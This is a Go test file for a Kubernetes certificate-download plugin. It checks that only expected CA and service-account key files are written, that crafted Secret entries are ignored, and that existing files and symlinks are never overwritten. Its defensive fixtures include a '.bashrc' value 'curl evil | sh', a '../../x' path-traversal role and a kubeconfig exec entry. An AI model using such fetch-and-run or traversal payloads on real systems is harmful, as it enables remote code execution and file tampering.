package plugin

import (
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	v1alpha1 "github.com/carousel-dev/carousel/apis/carousel/v1alpha1"
)

func TestDownloadWritesOnlyTheCertificatesAndKeysUnderItsOwnNames(t *testing.T) {
	// Anyone who can write the Secrets in the Cluster's namespace can add
	// data keys; the upload keeps them.
	upload := &certsUpload{secrets: []uploadedSecret{
		{Role: v1alpha1.CARoleClient, Name: "prod-ca-client", Data: map[string][]byte{
			"tls.crt": []byte("client CA"), "tls.key": []byte("client CA key"),
			"previous-tls.key": []byte("old client CA key"), ".bashrc": []byte("curl evil | sh"),
		}},
		{Role: "../../x", Name: "prod-ca-crafted", Data: map[string][]byte{"tls.key": []byte("out of --dir")}},
		{Name: "prod-service-account-key", Data: map[string][]byte{
			"sa.key": []byte("sa key"), "sa.pub": []byte("sa pub"),
			"client-ca-tls.key": []byte("a forged CA key"), "prod.kubeconfig": []byte("users: [{user: {exec: ...}}]"),
		}},
	}}
	files, ignored := upload.files()
	want := map[string][]byte{
		"client-ca-tls.crt": []byte("client CA"), "client-ca-tls.key": []byte("client CA key"),
		"client-ca-previous-tls.key": []byte("old client CA key"), "sa.key": []byte("sa key"), "sa.pub": []byte("sa pub"),
	}
	if !reflect.DeepEqual(files, want) {
		t.Errorf("files = %q, want %q", files, want)
	}
	wantIgnored := []string{"prod-ca-client/.bashrc", "prod-ca-crafted/tls.key", "prod-service-account-key/client-ca-tls.key", "prod-service-account-key/prod.kubeconfig"}
	if !reflect.DeepEqual(ignored, wantIgnored) {
		t.Errorf("ignored = %q, want %q", ignored, wantIgnored)
	}

	for name, want := range map[string]bool{
		"cluster-ca-tls.crt": true, "vpn-ca-previous-tls.key": true, "sa-next.key": true,
		"format": false, "other-ca-tls.key": false, "cluster-ca-ca.crt": false, "..": false, "../sa.key": false,
	} {
		if got := downloadable(name); got != want {
			t.Errorf("downloadable(%q) = %v, want %v", name, got, want)
		}
	}
}

func TestDownloadReplacesNoFile(t *testing.T) {
	files := map[string][]byte{"client-ca-tls.key": []byte("CA key"), "sa.key": []byte("sa key")}

	dir := filepath.Join(t.TempDir(), "new", "pki")
	names, err := writeNewFiles(dir, files)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(names, []string{"client-ca-tls.key", "sa.key"}) {
		t.Errorf("wrote %q", names)
	}
	if info, err := os.Stat(dir); err != nil || info.Mode().Perm() != 0o700 {
		t.Errorf("the directory: %v, %v; want mode 0700", info, err)
	}
	for name, data := range files {
		got, err := os.ReadFile(filepath.Join(dir, name))
		info, _ := os.Stat(filepath.Join(dir, name))
		if err != nil || string(got) != string(data) || info.Mode().Perm() != 0o600 {
			t.Errorf("%s: %q, %v, mode %v; want %q, mode 0600", name, got, err, info.Mode().Perm(), data)
		}
	}

	// A file of the same name, the user's own (world-readable), or a link
	// to one elsewhere: nothing is written.
	dir = t.TempDir()
	elsewhere := filepath.Join(t.TempDir(), "the user's file")
	if err := os.WriteFile(filepath.Join(dir, "sa.key"), []byte("mine"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(elsewhere, []byte("also mine"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(elsewhere, filepath.Join(dir, "client-ca-tls.key")); err != nil {
		t.Fatal(err)
	}
	_, err = writeNewFiles(dir, files)
	if err == nil || !strings.Contains(err.Error(), "already has client-ca-tls.key, sa.key; download replaces no file") {
		t.Errorf("err = %v", err)
	}
	for path, want := range map[string]string{filepath.Join(dir, "sa.key"): "mine", elsewhere: "also mine"} {
		if got, err := os.ReadFile(path); err != nil || string(got) != want {
			t.Errorf("%s = %q, %v; want it untouched", path, got, err)
		}
	}
	if info, _ := os.Stat(filepath.Join(dir, "sa.key")); info.Mode().Perm() != 0o644 {
		t.Errorf("sa.key's mode changed to %v", info.Mode().Perm())
	}

	// A link that appears between the check and the write is not followed.
	dir = t.TempDir()
	if err := os.Symlink(elsewhere, filepath.Join(dir, "sa.key")); err != nil {
		t.Fatal(err)
	}
	if err := writeNewFile(filepath.Join(dir, "sa.key"), []byte("sa key")); !os.IsExist(err) {
		t.Errorf("writing through a link: err = %v, want it to exist", err)
	}
	if got, _ := os.ReadFile(elsewhere); string(got) != "also mine" {
		t.Errorf("the link's target = %q", got)
	}
	// Nor is a later file's: the files written before it are taken back.
	if err := writeAllOrNone(dir, []string{"client-ca-tls.key", "sa.key"}, files); !errors.Is(err, fs.ErrExist) {
		t.Errorf("writing through a later link: err = %v, want it to exist", err)
	}
	if _, err := os.Lstat(filepath.Join(dir, "client-ca-tls.key")); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("client-ca-tls.key, written before sa.key failed, is left: %v", err)
	}
}
